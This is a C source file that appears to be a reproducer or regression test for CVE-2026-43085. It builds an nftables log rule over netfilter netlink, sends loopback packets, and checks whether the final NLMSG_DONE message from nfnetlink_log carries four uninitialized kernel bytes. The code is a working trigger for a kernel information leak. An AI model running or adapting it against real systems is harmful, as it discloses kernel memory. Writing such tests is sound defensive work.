// SPDX-License-Identifier: GPL-2.0-or-later
//
// CVE-2026-43085: when nfnetlink_log sends several packets at once, the message behind them holds four
// bytes that nobody wrote. Logs what leaves this machine over its loopback, two packets at a time, and
// says what they are; freed memory is 0x6b where slub_debug=P.
#include "netlink.h"
#include <arpa/inet.h>
#include <linux/netfilter.h>
#include <linux/netfilter/nf_tables.h>
#include <linux/netfilter/nfnetlink.h>
#include <linux/netfilter/nfnetlink_log.h>
#include <netinet/in.h>
#include <stdio.h>

#define GROUP 7

static char batch[4096];
static int batched;

static void table_message(int type, int flags)
{
	struct nfgenmsg head = { .nfgen_family = NFPROTO_IPV4 };

	begin(NFNL_SUBSYS_NFTABLES << 8 | type, flags, &head, sizeof(head));
}

static void add(void)
{
	memcpy(batch + batched, &message, message.head.nlmsg_len);
	batched += NLMSG_ALIGN(message.head.nlmsg_len);
}

static void edge(int type)
{
	struct nfgenmsg head = { .res_id = htons(NFNL_SUBSYS_NFTABLES) };

	begin(type, 0, &head, sizeof(head));
	add();
}

static void text(int type, const char *value)
{
	attribute(type, value, strlen(value) + 1);
}

static void nest(int type, void (*content)(void))
{
	struct nlattr *a = attribute(NLA_F_NESTED | type, NULL, 0);

	content();
	a->nla_len = (char *)&message + message.head.nlmsg_len - (char *)a;
}

static void hook(void)
{
	unsigned int number = htonl(NF_INET_LOCAL_OUT), priority = 0;

	attribute(NFTA_HOOK_HOOKNUM, &number, 4);
	attribute(NFTA_HOOK_PRIORITY, &priority, 4);
}

static void log_words(void)
{
	unsigned short group = htons(GROUP), threshold = htons(2);

	attribute(NFTA_LOG_GROUP, &group, 2);
	attribute(NFTA_LOG_QTHRESHOLD, &threshold, 2);
}

static void log_expression(void)
{
	text(NFTA_EXPR_NAME, "log");
	nest(NFTA_EXPR_DATA, log_words);
}

static void expressions(void)
{
	nest(NFTA_LIST_ELEM, log_expression);
}

static int send_batch(int s)
{
	int sent = send(s, batch, batched, 0) == batched;

	batched = 0;
	return sent;
}

static void remove_table(int s)
{
	edge(NFNL_MSG_BATCH_BEGIN);
	table_message(NFT_MSG_DELTABLE, 0);
	text(NFTA_TABLE_NAME, "bite");
	add();
	edge(NFNL_MSG_BATCH_END);
	send_batch(s);
}

int main(void)
{
	struct nfgenmsg head = { .res_id = htons(GROUP) };
	struct nfulnl_msg_config_cmd bound = { NFULNL_CFG_CMD_BIND };
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(9),
				  .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	int rules = netlink(NETLINK_NETFILTER), s = netlink(NETLINK_NETFILTER), size, i;
	int packets = socket(AF_INET, SOCK_DGRAM, 0);
	struct nlmsghdr *m;
	unsigned char *done = NULL;

	begin(NFNL_SUBSYS_ULOG << 8 | NFULNL_MSG_CONFIG, 0, &head, sizeof(head));
	attribute(NFULA_CFG_CMD, &bound, sizeof(bound));
	if (tell(s))
		return 2;
	edge(NFNL_MSG_BATCH_BEGIN);
	table_message(NFT_MSG_NEWTABLE, NLM_F_CREATE);
	text(NFTA_TABLE_NAME, "bite");
	add();
	table_message(NFT_MSG_NEWCHAIN, NLM_F_CREATE);
	text(NFTA_CHAIN_TABLE, "bite");
	text(NFTA_CHAIN_NAME, "out");
	nest(NFTA_CHAIN_HOOK, hook);
	text(NFTA_CHAIN_TYPE, "filter");
	add();
	table_message(NFT_MSG_NEWRULE, NLM_F_CREATE | NLM_F_APPEND | NLM_F_ACK);
	text(NFTA_RULE_TABLE, "bite");
	text(NFTA_RULE_CHAIN, "out");
	nest(NFTA_RULE_EXPRESSIONS, expressions);
	add();
	edge(NFNL_MSG_BATCH_END);
	if (!send_batch(rules) || recv(rules, answer, sizeof(answer), 0) <= 0 ||
	    ((struct nlmsgerr *)NLMSG_DATA(answer))->error) {
		printf("no rule: %s\n", strerror(-((struct nlmsgerr *)NLMSG_DATA(answer))->error));
		return 2;
	}
	for (i = 0; i < 4; i++)
		sendto(packets, "bite", 4, 0, (struct sockaddr *)&to, sizeof(to));
	size = recv(s, answer, sizeof(answer), 0);
	remove_table(rules);
	for (m = (struct nlmsghdr *)answer; NLMSG_OK(m, size); m = NLMSG_NEXT(m, size))
		if (m->nlmsg_type == NLMSG_DONE)
			done = NLMSG_DATA(m);
	if (!done)
		return 2;
	printf("the last message is %02x %02x %02x %02x\n", done[0], done[1], done[2], done[3]);
	return done[0] || done[1] || done[2] || done[3] != GROUP;
}
